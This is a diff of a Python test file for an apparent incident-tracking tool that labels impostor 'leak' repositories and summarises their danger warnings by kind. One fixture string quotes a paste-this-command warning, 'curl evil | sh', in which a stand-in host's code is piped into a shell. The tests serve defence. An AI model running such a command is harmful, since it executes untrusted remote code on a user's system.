@@ -21,18 +21,23 @@ def test_an_impostor_is_on_the_record_as_one_and_says_not_to_open_it(incident):
 
     assert said(incident) == [
         "Impostor: evil/kettle-leaked on code.example says it is the leak and holds none of it (impostor). "
-        "Do not open it: executable: Setup.exe (runs on Windows)"
+        "Do not open it: executable (1)"
     ]
     assert incident.events.last().facts["class"] == "impostor"
 
 
-def test_of_many_warnings_the_record_says_a_few(incident):
-    warnings = [f"executable: {n}.exe (runs on Windows)" for n in range(9)]
+def test_the_record_tells_sorts_of_danger_and_keeps_the_strangers_words_as_facts(incident):
+    warnings = [
+        "executable: a.exe (runs on Windows)",
+        "executable: b.exe (runs on Windows)",
+        "command to paste: README.md (curl evil | sh)",
+    ]
 
     changed(incident, "appeared", warnings=warnings)
 
     [sentence] = said(incident)
-    assert sentence.endswith("2.exe (runs on Windows) and 6 more")
+    assert sentence.endswith("Do not open it: executable (2), command to paste (1)")
+    assert incident.events.last().facts["warnings"] == warnings
 
 
 def test_it_goes_and_returns_and_is_confirmed_like_any_place(incident):
